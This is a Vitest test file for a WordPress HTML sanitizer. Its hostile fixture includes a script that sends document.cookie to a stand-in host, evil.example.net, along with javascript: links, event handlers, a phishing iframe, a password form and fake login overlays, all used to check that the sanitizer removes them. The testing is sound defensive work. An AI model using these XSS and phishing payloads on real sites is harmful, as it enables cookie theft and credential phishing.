import { describe, expect, it } from 'vitest';

import { sanitizeCmsHtml, type SanitizeOptions } from '@/lib/cms/sanitize';

const OPTIONS: SanitizeOptions = {
  wordpressHost: 'cms.example.org',
  imageHost: 'images.example.org',
  legacyHosts: ['old-cms.example.org'],
  internalOrigins: ['https://cms.example.org', 'https://www.example.org/'],
};

/** A WordPress post body as an attacker with editor rights (or a compromised plugin) might leave it. */
const HOSTILE = `
<p>Welcome to our <strong>community</strong> update.</p>
<script>fetch('https://evil.example.net/?c=' + document.cookie)</script>
<img src="https://cms.example.org/wp-content/uploads/2024/03/photo.jpg" onerror="alert(1)" alt="Photo">
<p onclick="steal()">Click me</p>
<a href="javascript:alert(1)">Free tickets</a>
<a href=" JaVaScRiPt:alert(2)">Also bad</a>
<iframe src="https://evil.example.net/phish" width="800" height="600"></iframe>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">Log in again</div>
<div class="fixed inset-0 z-50 bg-white">Fake overlay</div>
<figure class="wp-block-image aligncenter size-large"><img src="https://cms.example.org/wp-content/uploads/2024/03/march.jpg" class="wp-image-56" alt="March"></figure>
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Video" allowfullscreen></iframe>
<p>Email <a href="mailto:info@example.org">info@example.org</a> or call <a href="tel:+441130000000">0113 000 0000</a>.</p>
<form action="https://evil.example.net/login"><input name="password"></form>
<style>body{display:none}</style>
`;

describe('sanitizeCmsHtml: hostile markup', () => {
  const out = sanitizeCmsHtml(HOSTILE, OPTIONS);

  it('removes scripts, styles and forms with their content', () => {
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toContain('document.cookie');
    expect(out).not.toMatch(/<style/i);
    expect(out).not.toContain('display:none');
    expect(out).not.toMatch(/<form|<input/i);
  });

  it('removes event handlers', () => {
    expect(out).not.toMatch(/\son\w+=/i);
    expect(out).not.toContain('alert(1)');
    expect(out).not.toContain('steal()');
    expect(out).toContain('Click me');
  });

  it('removes javascript: links but keeps their text', () => {
    expect(out).not.toMatch(/javascript:/i);
    expect(out).toContain('Free tickets');
    expect(out).toContain('Also bad');
  });

  it('removes iframes from hosts that are not allowed', () => {
    expect(out).not.toContain('evil.example.net');
    expect(out.match(/<iframe/g)).toHaveLength(1);
  });

  it('removes style attributes and utility classes that could draw an overlay', () => {
    expect(out).not.toMatch(/\sstyle=/i);
    expect(out).not.toContain('position:fixed');
    expect(out).not.toMatch(/class="[^"]*\b(fixed|inset-0|z-50|bg-white)\b/);
    expect(out).toContain('Log in again');
    expect(out).toContain('Fake overlay');
  });

  it('keeps normal content and WordPress block classes', () => {
    expect(out).toContain('<p>Welcome to our <strong>community</strong> update.</p>');
    expect(out).toContain('<figure class="wp-block-image aligncenter size-large">');
    expect(out).toContain('class="wp-image-56"');
    expect(out).toContain('alt="March"');
  });

  it('keeps YouTube embeds, rewritten to youtube-nocookie.com', () => {
    expect(out).toContain(
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video" allowfullscreen>',
    );
    expect(out).not.toContain('https://www.youtube.com/embed');
  });

  it('keeps mailto: and tel: links', () => {
    expect(out).toContain('<a href="mailto:info@example.org">info@example.org</a>');
    expect(out).toContain('<a href="tel:+441130000000">0113 000 0000</a>');
  });
});

describe('sanitizeCmsHtml: embeds', () => {
  it('rewrites youtube.com without www and keeps Vimeo', () => {
    const out = sanitizeCmsHtml(
      '<iframe src="https://youtube.com/embed/abc"></iframe><iframe src="https://player.vimeo.com/video/1"></iframe>',
    );
    expect(out).toContain('src="https://www.youtube-nocookie.com/embed/abc"');
    expect(out).toContain('src="https://player.vimeo.com/video/1"');
  });

  it('drops an iframe on plain http, on a look-alike host, or without src', () => {
    const out = sanitizeCmsHtml(
      '<iframe src="http://www.youtube.com/embed/abc"></iframe>' +
        '<iframe src="https://www.youtube.com.evil.example.net/embed/abc"></iframe>' +
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>after</p>',
    );
    expect(out).toBe('<p>after</p>');
  });
});

describe('sanitizeCmsHtml: links', () => {
  it('adds rel="noopener noreferrer" to target=_blank links, replacing a weaker rel', () => {
    const out = sanitizeCmsHtml(
      '<a href="https://other.example.com/" target="_blank" rel="opener">Partner</a>',
    );
    expect(out).toBe(
      '<a href="https://other.example.com/" target="_blank" rel="noopener noreferrer">Partner</a>',
    );
  });

  it('drops any other target', () => {
    expect(sanitizeCmsHtml('<a href="https://other.example.com/" target="top">x</a>')).toBe(
      '<a href="https://other.example.com/">x</a>',
    );
  });

  it('makes links on an internal origin site-relative, without the trailing slash', () => {
    const out = sanitizeCmsHtml(
      '<a href="https://cms.example.org/reports/x/">Report</a>' +
        '<a href="https://www.example.org/blog/hello/?ref=1#comments">Post</a>' +
        '<a href="https://cms.example.org/">Home</a>',
      OPTIONS,
    );
    expect(out).toContain('<a href="/reports/x">Report</a>');
    expect(out).toContain('<a href="/blog/hello?ref=1#comments">Post</a>');
    expect(out).toContain('<a href="/">Home</a>');
  });

  it('leaves external and relative links alone', () => {
    const out = sanitizeCmsHtml(
      '<a href="https://other.example.com/reports/x/">A</a><a href="/blog/x">B</a><a href="#top">C</a>',
      OPTIONS,
    );
    expect(out).toBe(
      '<a href="https://other.example.com/reports/x/">A</a><a href="/blog/x">B</a><a href="#top">C</a>',
    );
  });

  it('does not treat another port or scheme of an internal host as internal', () => {
    const out = sanitizeCmsHtml(
      '<a href="https://cms.example.org:8443/x/">A</a><a href="http://cms.example.org/y/">B</a>',
      OPTIONS,
    );
    expect(out).toContain('href="https://cms.example.org:8443/x/"');
    expect(out).toContain('href="http://cms.example.org/y/"');
  });

  // BUG: every link on the WordPress origin is made site-relative, including links to uploaded files. The
  // Next site has no /wp-content route (the proxy passes paths with a dot straight through), so a report PDF
  // linked from a post becomes a 404.
  it('keeps links to uploaded files on the WordPress host absolute', () => {
    const out = sanitizeCmsHtml(
      '<a href="https://cms.example.org/wp-content/uploads/2024/05/annual-report.pdf">Download the report (PDF)</a>',
      { internalOrigins: ['https://cms.example.org'] },
    );
    expect(out).toMatch(/href="https:\/\/[^"/]+\/wp-content\/uploads\/2024\/05\/annual-report\.pdf"/);
  });
});

describe('sanitizeCmsHtml: images', () => {
  it('rewrites img src to the image host, strips sizing params and adds lazy loading', () => {
    const out = sanitizeCmsHtml(
      '<img src="https://cms.example.org/wp-content/uploads/a.jpg?w=300&amp;h=200&amp;v=2" srcset="x.jpg 1x" width="300" alt="A">',
      OPTIONS,
    );
    expect(out).toBe(
      '<img src="https://images.example.org/wp-content/uploads/a.jpg?v=2" width="300" alt="A" loading="lazy" decoding="async" />',
    );
  });

  it('maps a legacy host to the image host', () => {
    const out = sanitizeCmsHtml(
      '<img src="http://old-cms.example.org/wp-content/uploads/b.png?resize=10%2C10">',
      OPTIONS,
    );
    expect(out).toContain('src="https://images.example.org/wp-content/uploads/b.png"');
  });

  it('keeps site paths (snapshot media) without their sizing params', () => {
    expect(sanitizeCmsHtml('<img src="/content-media/c.jpg?quality=50" alt="">')).toContain(
      'src="/content-media/c.jpg"',
    );
  });

  it('drops an image whose src is javascript:, data:, missing or unusable', () => {
    const out = sanitizeCmsHtml(
      '<p>a<img src="javascript:alert(1)">b<img src="data:image/svg+xml;base64,PHN2Zz4=">c<img alt="none">d' +
        '<img src="ftp://example.org/x.jpg">e</p>',
      OPTIONS,
    );
    expect(out).toBe('<p>abcde</p>');
  });
});

describe('sanitizeCmsHtml: edge cases', () => {
  it('returns an empty string for empty input', () => {
    expect(sanitizeCmsHtml('')).toBe('');
    expect(sanitizeCmsHtml(null)).toBe('');
    expect(sanitizeCmsHtml(undefined)).toBe('');
  });

  it('does not throw on malformed HTML', () => {
    expect(() => sanitizeCmsHtml('<p><strong>unclosed <a href="x <img src=')).not.toThrow();
    expect(sanitizeCmsHtml('<p>one<p>two')).toBe('<p>one</p><p>two</p>');
  });

  it('keeps tables, lists and alignment classes', () => {
    const out = sanitizeCmsHtml(
      '<table class="wp-block-table"><tr><td colspan="2" class="has-text-align-center">x</td></tr></table>' +
        '<ol start="3" reversed><li>a</li></ol>',
    );
    expect(out).toContain('<td colspan="2" class="has-text-align-center">x</td>');
    expect(out).toContain('<ol start="3" reversed>');
  });

  it('gives headings ids from their text, so sections can be linked to (issue 19 item 3)', () => {
    const out = sanitizeCmsHtml(
      '<h2 id="evil" onclick="x()">Cookies and local storage</h2><h3 class="wp-block-heading">Your <em>rights</em></h3>' +
        '<h2>Cookies and local storage</h2><h2>Qué &amp; cómo</h2><h4>Not this</h4>',
    );
    expect(out).toContain('<h2 id="cookies-and-local-storage">Cookies and local storage</h2>');
    expect(out).toContain('<h3 id="your-rights" class="wp-block-heading">Your <em>rights</em></h3>');
    expect(out).toContain('<h2 id="cookies-and-local-storage-2">');
    expect(out).toContain('<h2 id="que-como">');
    expect(out).toContain('<h4>Not this</h4>');
    expect(out).not.toContain('evil');
  });
});
